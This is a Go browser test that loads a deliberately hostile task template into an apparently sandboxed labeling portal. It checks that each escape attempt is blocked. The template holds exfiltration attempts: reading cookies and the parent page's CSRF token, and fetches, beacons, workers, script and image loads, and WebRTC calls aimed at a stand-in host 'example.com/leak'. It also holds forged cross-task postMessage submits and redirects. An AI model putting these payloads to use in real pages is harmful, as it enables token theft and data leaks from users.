package browser_test

import (
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"fiducial/test/boot"
)

// attacks is a template that tries to get out. Each attempt says what came of
// it; "held" is the only good answer.
const attacks = `<crowd-form><p>Label me</p><crowd-input name="x"></crowd-input></crowd-form>
<script>
window.results = {};
const attempt = (name, what) => { try { window.results[name] = what() || "held"; } catch (e) { window.results[name] = "held"; } };
const eventually = (name, what) => { window.results[name] = "pending"; Promise.resolve().then(what).then((r) => { window.results[name] = r || "held"; }, () => { window.results[name] = "held"; }); };
attempt("origin", () => self.origin === "null" ? "" : self.origin);
attempt("cookie", () => document.cookie);
attempt("local storage", () => String(localStorage.length));
attempt("session storage", () => String(sessionStorage.length));
attempt("the page around", () => parent.document.title);
attempt("its token", () => parent.document.querySelector("meta[name=csrf-token]").content);
attempt("the frame element", () => frameElement && "there");
attempt("the top window's address", () => top.location.href);
attempt("a window", () => { const w = open("https://example.com/"); return w && "opened"; });
eventually("fetch of the portal", () => fetch("/", {credentials: "include"}).then(() => "answered"));
eventually("fetch without reading", () => fetch("/jobs/cage/next", {method: "POST", mode: "no-cors", credentials: "include", body: "{}"}).then(() => "sent"));
eventually("fetch of a stranger", () => fetch("https://example.com/leak", {mode: "no-cors"}).then(() => "sent"));
eventually("XMLHttpRequest", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok("answered"); x.onerror = no; x.open("GET", "/"); x.send(); }));
eventually("WebSocket", () => new Promise((ok, no) => { const s = new WebSocket(location.href.replace(/^http/, "ws")); s.onopen = () => ok("opened"); s.onerror = no; }));
attempt("beacon", () => navigator.sendBeacon("/jobs/cage/next", "{}") && violated("connect-src"));
const worker = (text) => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = (e) => ok(e.data); w.onerror = no; });
eventually("a worker that fetches", () => worker('fetch("https://example.com/leak", {mode: "no-cors"}).then(() => postMessage("sent"), () => postMessage(""))'));
eventually("a worker that imports", () => worker('try { importScripts("https://example.com/leak.js"); postMessage("imported"); } catch { postMessage(""); }'));
eventually("a worker from elsewhere", () => new Promise((ok, no) => { const w = new Worker("https://example.com/leak.js"); w.onmessage = () => ok("started"); w.onerror = no; }));
eventually("service worker", () => navigator.serviceWorker.register("/assets/portal.js").then(() => "registered"));
const image = (url) => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = url; });
eventually("an image elsewhere", () => image("https://example.com/leak.png"));
eventually("a style sheet elsewhere", () => new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://example.com/leak.css"; l.onload = () => ok("loaded"); l.onerror = no; document.head.append(l); }));
eventually("a script elsewhere", () => new Promise((ok, no) => { const l = document.createElement("script"); l.src = "https://example.com/leak.js"; l.onload = () => ok("loaded"); l.onerror = no; document.head.append(l); }));
const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
// A beacon reports success although the policy stops it; the violation is the proof.
const violated = (directive) => { setTimeout(() => { window.results.beacon = violations.includes(directive) ? "held" : "sent"; }, 500); return "pending"; };
attempt("a form", () => { const f = document.createElement("form"); f.action = "/signout"; f.method = "post"; document.body.append(f); f.submit(); });
attempt("the base", () => { const b = document.createElement("base"); b.href = "https://example.com/"; document.head.append(b); return document.baseURI.startsWith("https://example.com") ? "moved" : ""; });
// A submit in another task's name: the page knows the frame only by its port.
for (const m of [{type: "submit", assignment: "other", answer: {stolen: true}}, {type: "fiducial:ready"}]) parent.postMessage(m, "*");
// Nothing of a call may leave: not by UDP, and not by looking for a way.
eventually("a call", () => new Promise((ok) => {
  const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }, { urls: "turn:STUN?transport=udp", username: "secret", credential: "x" }] });
  p.createDataChannel("x");
  p.onicegatheringstatechange = () => p.iceGatheringState === "complete" && ok("");
  p.createOffer().then((o) => p.setLocalDescription(o));
}));
eventually("a worker's fetch", () => new Promise((ok, no) => {
  const w = new Worker(URL.createObjectURL(new Blob(['fetch("https://example.com/leak", {mode: "no-cors"}).then(() => postMessage("sent"), () => postMessage("held"))'])));
  w.onmessage = (e) => ok(e.data);
  w.onerror = no;
}));
eventually("a worker's import", () => new Promise((ok, no) => {
  const w = new Worker(URL.createObjectURL(new Blob(['try { importScripts("https://example.com/leak.js"); postMessage("imported") } catch { postMessage("held") }'])));
  w.onmessage = (e) => ok(e.data);
  w.onerror = no;
}));
eventually("a frame within", () => { const f = document.createElement("iframe"); f.src = "https://example.com/frame"; document.body.append(f); });
eventually("hints", () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "icon"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "https://example.com/hint-" + rel; document.head.append(l); } });
window.done = () => Object.values(window.results).every((r) => r !== "pending");
</script>`

func TestTemplateIsCaged(t *testing.T) {
	// A host that nobody allowed, and who would like to be called.
	var called atomic.Int64
	stranger := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called.Add(1) }))
	defer stranger.Close()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	go func() {
		for b := make([]byte, 2048); ; {
			if _, _, err := udp.ReadFrom(b); err != nil {
				return
			}
			called.Add(1)
		}
	}()
	template := func(s string) string {
		return strings.NewReplacer("https://example.com", stranger.URL, "STUN", udp.LocalAddr().String()).Replace(s)
	}
	s := boot.Start(t, boot.Options{})
	s.Make(boot.Setup{Workers: []boot.Account{ada}, Jobs: []boot.Job{
		{Name: "cage", Function: "PassThrough", Labels: []string{}, Objects: 2, Workers: 1, Text: true, Template: template(attacks)},
		{Name: "leave", Function: "PassThrough", Labels: []string{}, Objects: 1, Workers: 1, Text: true, Template: template(`<crowd-form></crowd-form><script>setTimeout(() => { location = "https://example.com/?leak"; }, 300)</script>`)},
		{Name: "top", Function: "PassThrough", Labels: []string{}, Objects: 1, Workers: 1, Text: true, Template: template(`<crowd-form></crowd-form><script>setTimeout(() => { top.location = "https://example.com/?leak"; }, 300)</script>`)},
	}})
	// Chromium makes calls by loopback as it does by other networks.
	b := open(t, s.Portal, chromedp.Flag("allow-loopback-in-peer-connection", true))
	b.signIn(ada)
	b.start("cage")
	id := b.assignment()
	f := b.frame()
	b.await(f, `window.done && Object.keys(window.results).length > 20`)
	for range 50 {
		if eval[bool](b, f, `window.done()`) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	check(t, b, f)
	if got := b.assignment(); got != id {
		t.Errorf("the frame submitted: the page is at %s", got)
	}
	if got := eval[string](b, b.ctx, `location.pathname`); got != "/tasks/"+id {
		t.Errorf("the page is at %s", got)
	}

	// Opened by itself the frame is sent back to the page around it.
	b.do(chromedp.Navigate(b.portal+"/tasks/"+id+"/frame"), chromedp.WaitVisible(chromedp.CSS(`#task`)))
	if got := eval[string](b, b.ctx, `location.pathname`); got != "/tasks/"+id {
		t.Errorf("the frame opened at the top: %s", got)
	}

	// The frame cannot take itself, or the whole tab, to somebody else with what
	// it knows in the address.
	for _, job := range []string{"leave", "top"} {
		b.start(job)
		b.frame()
		at := "/tasks/" + b.assignment()
		b.do(chromedp.Sleep(1500 * time.Millisecond))
		if got := eval[string](b, b.ctx, `location.pathname`); got != at {
			t.Errorf("%s: the tab is at %s", job, got)
		}
		b.shot(job)
	}
	if n := called.Load(); n != 0 {
		t.Errorf("the stranger was called %d times", n)
	}
}

func check(t *testing.T, b *browser, f context.Context) {
	t.Helper()
	var results map[string]string
	if err := json.Unmarshal([]byte(eval[string](b, f, `JSON.stringify(window.results)`)), &results); err != nil {
		t.Fatal(err)
	}
	if len(results) < 20 {
		t.Errorf("only %d attempts were made: %v", len(results), results)
	}
	for name, r := range results {
		if r != "held" {
			t.Errorf("%s: %s", name, r)
		}
	}
}
